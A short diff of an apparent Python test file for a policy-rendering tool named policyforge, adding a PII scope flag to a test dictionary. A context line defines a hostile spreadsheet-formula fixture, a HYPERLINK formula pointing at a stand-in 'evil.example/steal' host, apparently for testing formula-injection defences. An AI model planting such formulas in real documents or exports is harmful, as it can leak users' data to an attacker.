@@ -29,7 +29,7 @@ from policyforge.render import markdown_to_html
 
 slow = pytest.mark.slow
 SECURITY_ONLY = {"scope_availability": "no", "scope_confidentiality": "no", "scope_processing_integrity": "no",
-                 "scope_privacy": "no"}
+                 "scope_privacy": "no", "data_pii": "no"}
 HOSTILE_TOOL = '=HYPERLINK("https://evil.example/steal","Jira")'
 
 
